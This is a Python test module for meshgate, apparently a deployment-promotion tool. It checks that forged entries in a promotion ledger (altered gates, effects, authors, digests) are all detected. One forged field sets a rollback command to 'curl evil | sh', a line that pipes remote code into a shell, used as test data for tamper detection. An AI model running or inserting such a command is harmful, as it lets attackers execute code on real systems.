"""Claim: no record of history can be forged, whoever pushed it and however its digests fit."""

from __future__ import annotations

import datetime as dt
import functools
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest
from msgspec import structs

from meshgate.cli import main
from meshgate.promotion.candidate import Candidate
from meshgate.promotion.candidate_builder import CandidateBuilder
from meshgate.promotion.environment_state import Event, Hold, PendingBackport
from meshgate.promotion.files import at_commit, contents, ledger_folder, sha256
from meshgate.promotion.ledger import Recorded, read_ledger, record_bytes
from meshgate.promotion.line import hold, reject, resume
from meshgate.promotion.recomputed_history import Deviation, Recomputation, RecordAtMerge
from meshgate.promotion.records import (
    Bypass,
    Effects,
    GateResult,
    GateVerdict,
    InputChange,
    PromotionRecord,
)
from meshgate.promotion.rollback import held_by_rollback
from meshgate.promotion.session import Clock, session_at
from meshgate.repository import Repository, additions, mainline
from promoted import (
    ENVIRONMENTS,
    RULE,
    START,
    STRICT,
    commit,
    git,
    promote,
    start,
)

pytestmark = pytest.mark.sampled(every=2)
GATED = ENVIRONMENTS.replace(
    "    gates: []\n    gatesWaived: a sample\n", "    gates: [soaked, calm]\n"
) + (
    "gates:\n  - {name: soaked, type: soak, duration: 1h}\n"
    "  - {name: calm, type: effects, breaks: 0}\n"
)
ID, OTHER_ID, TREE = "a" * 40, "r-000000000000", "b" * 40


class Merged(NamedTuple):
    """Every event once, on prod; what each record came with."""

    folder: Path
    anew: Recomputation
    records: dict[Event, RecordAtMerge]


class Once(Recomputation):
    """Judges each commit once, whatever is said of it."""

    kept: dict[str, Candidate] = {}  # noqa: RUF012 - for all tests of this module

    def _candidate(self, builder: CandidateBuilder) -> Candidate:
        key = f"{builder.session.commit} {builder.after.commit}"
        if key not in self.kept:
            self.kept[key] = super()._candidate(builder)
        return structs.replace(self.kept[key], record=builder.record, now=builder.session.now)


def line(folder: Path, event: Event, day: int) -> None:
    """An event that moves nothing, merged at once."""
    now = START + dt.timedelta(days=day)
    with Repository(folder) as repository:
        head = repository.resolve("main")
        session = session_at(
            repository, head, Clock(now, now.date()), without_forge="a test", login="A Test"
        )
        prepared = {
            Event.HOLD: lambda: hold(session, "prod", reason="audit week"),
            Event.RESUME: lambda: resume(session, "prod", reason="over"),
            Event.REJECT: lambda: reject(session, "fix", reason="bad", name="prod"),
        }[event]()
    git(folder, "reset", "--quiet", "--hard", prepared.commit)


@pytest.fixture(scope="module")
def merged(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Merged]:
    folder = start(tmp_path_factory.mktemp("history") / "repository")
    commit(folder, {"environments.yaml": GATED}, "gates")
    for day, environment in enumerate(("staging", "prod"), 1):
        promote(folder, environment, event=Event.ADOPT, day=day)
    commit(folder, STRICT, "mesh: demand mTLS (#12)", day=3)
    promote(folder, "staging", day=4)
    promote(folder, "prod", day=5)
    line(folder, Event.HOLD, 6)
    line(folder, Event.RESUME, 7)
    back = held_by_rollback(1, "slow", by="a-test", since=START + dt.timedelta(days=8))
    git(folder, "branch", "first", "main~6")
    promote(folder, "prod", event=Event.ROLLBACK, day=8, source="first", hold=back, reason="slow")
    git(folder, "switch", "-qc", "fix", "first")
    fix = commit(
        folder,
        {"policies/shop/destinationrule-cart.yaml": RULE + "  exportTo: [.]\n"},
        "fix",
        day=9,
    )
    git(folder, "switch", "-q", "main")
    skipped = (Bypass("staging", "a-test", "", ""),)
    promote(folder, "prod", event=Event.HOTFIX, day=10, source=fix, bypasses=skipped)
    line(folder, Event.REJECT, 11)
    with Repository(folder) as repository:
        ledger = read_ledger(contents(at_commit(repository, "main")), "prod")
        added = additions(repository, "main", ledger_folder("prod"))
        commits = {found.sha: found for found in mainline(repository, "main")}
        before: Recorded | None = None
        records: dict[Event, RecordAtMerge] = {}
        for recorded in ledger:
            found = commits[added[recorded.record.path]]
            records[recorded.record.event] = RecordAtMerge(recorded, before, found)
            before = recorded
        for name in ("run", "find", "resolve", "object_id", "entries", "blob", "read"):
            # Nothing is written any more: each question is asked of git once.
            setattr(repository, name, functools.cache(getattr(repository, name)))
        anew = Once(repository, "main", None)
        yield Merged(folder, anew, records)


def said(merged: Merged, event: Event, **changes: object) -> list[Deviation]:
    """What is said of a record that tells something else."""
    known = merged.records[event]
    record: PromotionRecord = structs.replace(known.record, **changes)
    recorded = Recorded(record, sha256(record_bytes(record)))
    return [*merged.anew.of_record(known._replace(recorded=recorded))]


def test_history_as_it_was_is_whole(merged: Merged, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["-C", str(merged.folder), "audit", "--deep"]) == 0, capsys.readouterr().out
    assert "Everything is as promotion wrote it." in capsys.readouterr().out
    assert set(merged.records) == set(Event)


def of_promotion(record: PromotionRecord) -> dict[str, dict[str, object]]:
    """What a promotion may lie about; each a set of other fields."""
    effects, (upstream,) = record.effects, record.upstream
    assert effects is not None
    assert upstream.soak is not None
    (tightened,) = effects.tightened
    soaked, calm = record.gates
    change = record.changes[0]
    return {
        **{
            f"effects: {name}": {"effects": lie}
            for name, lie in {
                "none told": None,
                "nothing happens": structs.replace(effects, tightened=()),
                "a port gets weaker": structs.replace(effects, loosened=(tightened,)),
                "tightened as loosened": structs.replace(
                    effects, tightened=(), loosened=(tightened,)
                ),
                "twice": structs.replace(effects, tightened=(tightened, tightened)),
                "another port": structs.replace(effects, tightened=({**tightened, "port": 1},)),
                "another workload": structs.replace(
                    effects, tightened=({**tightened, "workload": "x"},)
                ),
                "another namespace": structs.replace(
                    effects, tightened=({**tightened, "namespace": "x"},)
                ),
                "another mode before": structs.replace(
                    effects, tightened=({**tightened, "before": tightened["after"]},)
                ),
                "another mode after": structs.replace(
                    effects, tightened=({**tightened, "after": tightened["before"]},)
                ),
                "a break": structs.replace(effects, breaks=({"host": "cart", "port": 80},)),
                "a deletion": structs.replace(effects, deleted=({"resource": "x"},)),
                "all else unchanged": structs.replace(effects, unchanged=effects.unchanged + 1),
                "nothing unchanged": structs.replace(effects, unchanged=9999),
                "another digest": structs.replace(effects, digest="0" * 64),
                "no digest": structs.replace(effects, digest=""),
                "another inventory": structs.replace(
                    effects, inventory={**effects.inventory, "digest": ID}
                ),
                "a newer inventory": structs.replace(
                    effects, inventory={**effects.inventory, "at": "2026-08-01 00:00 UTC"}
                ),
                "no inventory": structs.replace(effects, inventory={}),
                "all new": Effects(digest=effects.digest),
            }.items()
        },
        **{
            f"soak: {name}": {"upstream": lie}
            for name, lie in {
                "none": (),
                "a second more": (structs.replace(upstream, soak=upstream.soak + 1),),
                "a day more": (structs.replace(upstream, soak=upstream.soak + 86400),),
                "a second less": (structs.replace(upstream, soak=upstream.soak - 1),),
                "not known": (structs.replace(upstream, soak=None),),
                "earlier": (structs.replace(upstream, since=START),),
                "later": (structs.replace(upstream, since=START + dt.timedelta(days=4.5)),),
                "since nobody knows": (structs.replace(upstream, since=None),),
                "of another release": (structs.replace(upstream, release=OTHER_ID),),
                "of another environment": (structs.replace(upstream, environment="dev"),),
                "verified": (structs.replace(upstream, verification="by the probe"),),
                "synced": (structs.replace(upstream, synced_at=START),),
                "twice": (upstream, upstream),
            }.items()
        },
        **{
            f"gates: {name}": {"gates": lie}
            for name, lie in {
                "none": (),
                "one less": (soaked,),
                "the other one": (calm,),
                "another order": (calm, soaked),
                "one more": (soaked, calm, GateResult("x", GateVerdict.PASS, "")),
                "failed": (soaked, structs.replace(calm, verdict=GateVerdict.FAIL)),
                "bypassed": (structs.replace(soaked, verdict=GateVerdict.BYPASSED), calm),
                "waiting": (structs.replace(soaked, verdict=GateVerdict.WAITING), calm),
                "not applicable": (
                    structs.replace(soaked, verdict=GateVerdict.NOT_APPLICABLE),
                    calm,
                ),
                "another reason": (structs.replace(soaked, reason="stayed a year"), calm),
                "another count": (soaked, structs.replace(calm, reason="9 breaks")),
                "evidence": (
                    structs.replace(soaked, evidence=({"reporter": "probe", "result": "pass"},)),
                    calm,
                ),
            }.items()
        },
        **{
            f"author: {name}": {"changes": lie}
            for name, lie in {
                "none": (),
                "somebody else": (structs.replace(change, author="Mallory <m@example.com>"),),
                "nobody": (structs.replace(change, author=""),),
                "a companion": (structs.replace(change, co_authors=("Eve <e@example.com>",)),),
                "another subject": (structs.replace(change, subject="docs: a typo"),),
                "another pull request": (structs.replace(change, pull_request=13),),
                "no pull request": (structs.replace(change, pull_request=None),),
                "another commit": (structs.replace(change, sha=ID),),
                "twice": (change, change),
                "one more": (change, InputChange(ID, "x", "A <a@example.com>")),
            }.items()
        },
        **{
            f"bypasses: {name}": {"bypasses": (Bypass(gate, by, "because", ticket),)}
            for name, gate, by, ticket in (
                ("of a gate", "soaked", "a-test", ""),
                ("with a ticket", "soaked", "a-test", "INC-1"),
                ("of a guard", "PR12", "a-test", "INC-1"),
                ("of resources", "resources", "a-test", ""),
                ("by somebody else", "resources", "mallory", ""),
                ("of an environment", "staging", "a-test", "INC-1"),
            )
        },
        **{
            f"accepted: {name}": {"acknowledges": (accepted,)}
            for name, accepted in {
                "a break": {"finding": "breaks 0", "by": "sam", "reason": "x", "until": None},
                "a value": {"finding": "PR17:x#/y", "by": "sam", "reason": "x"},
                "nothing": {},
            }.items()
        },
        "coverage: never tried": {"untested_below": ("x#/y",)},
        "coverage: all tried": {"exercised_below": ()},
        "coverage: more tried": {"exercised_below": (*record.exercised_below, "x#/y")},
        **{
            f"a hold: {name}": {"hold": Hold(START, "sam", "x", None, blocks)}
            for name, blocks in {"of promotions": (Event.PROMOTE,), "of nothing": ()}.items()
        },
    }


def of_any(record: PromotionRecord) -> dict[str, dict[str, object]]:
    """What a record of every event may lie about."""
    made, source = record.created_at, record.source
    assert made is not None
    return {
        "alias": {"alias": "2026-01-01.1"},
        "rollback command": {"rollback_command": "curl evil | sh"},
        "rejects": {"rejected": (*record.rejected, OTHER_ID)},
        "debt": {
            "pending_backport": None
            if record.pending_backport is not None
            else PendingBackport("x", (), made.date())
        },
        "added": {"added": ("rendered/prod/x.yaml",)},
        "changed": {"changed": ("rendered/prod/x.yaml",)},
        "removed": {"removed": ("rendered/prod/x.yaml",)},
        "a bypass": {"bypasses": (Bypass("soaked", "x", "y", "INC-1"),)},
        "a change": {"changes": (*record.changes, InputChange(ID, "x", "A <a@example.com>"))},
        "a gate": {"gates": (GateResult("x", GateVerdict.PASS, ""), *record.gates)},
        "an acceptance": {"acknowledges": ({"finding": "x", "by": "y", "reason": "z"},)},
        "upstream": {"upstream": ()},
        "the tree": {"rendered": structs.replace(record.rendered, tree=TREE)},
        "the digest": {"rendered": structs.replace(record.rendered, sha256="0" * 64)},
        "the number of files": {"rendered": structs.replace(record.rendered, resources=99)},
        "the overlay": {"rendered": structs.replace(record.rendered, overlay="overlays/dev")},
        "the policies": {"source": structs.replace(source, policies_tree=TREE)},
        "the overlays": {"source": structs.replace(source, overlays_tree=TREE)},
        "the toolchain": {"source": structs.replace(source, toolchain=TREE)},
        "the release": {"release": OTHER_ID},
        "the tree before": {"previous_tree": TREE},
        "who asked by hand": {"requested_by": {"login": "mallory", "via": "cli", "run": None}},
        "that nobody asked": {"requested_by": {}},
        "made before its source": {"created_at": START - dt.timedelta(days=1)},
    }


def lies(merged: Merged) -> Iterator[tuple[Event, str, dict[str, object]]]:
    for event, known in merged.records.items():
        for name, changes in of_any(known.record).items():
            yield event, name, changes
    promotion = merged.records[Event.PROMOTE].record
    for name, changes in of_promotion(promotion).items():
        yield Event.PROMOTE, name, changes


def test_no_lie_of_a_record_is_believed(merged: Merged) -> None:
    told = [*lies(merged)]
    believed = [
        f"{event}: {name}"
        for event, name, changes in told
        if not any(deviation.proven for deviation in said(merged, event, **changes))
    ]
    assert believed == []
    assert len(told) >= 200
